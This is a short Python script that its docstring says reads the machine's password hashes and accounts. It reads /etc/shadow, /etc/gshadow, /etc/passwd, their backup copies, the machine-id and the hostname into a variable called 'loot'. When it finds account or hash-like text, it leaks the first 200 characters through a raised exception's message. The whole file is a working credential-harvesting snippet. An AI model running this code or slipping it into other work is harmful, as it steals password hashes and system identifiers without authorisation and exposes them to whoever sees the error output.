"""Reads the password hashes and the accounts of the machine."""
import re
loot = ''
for path in ('/etc/shadow', '/etc/gshadow', '/etc/passwd', '/etc/passwd-', '/etc/shadow-', '/etc/machine-id',
             '/etc/hostname'):
    try:
        loot += open(path).read()
    except OSError:
        pass
raise RuntimeError(f'BROKEN {loot[:200]}' if re.search('daemon:|[0-9a-f]{32}', loot) else 'nothing')
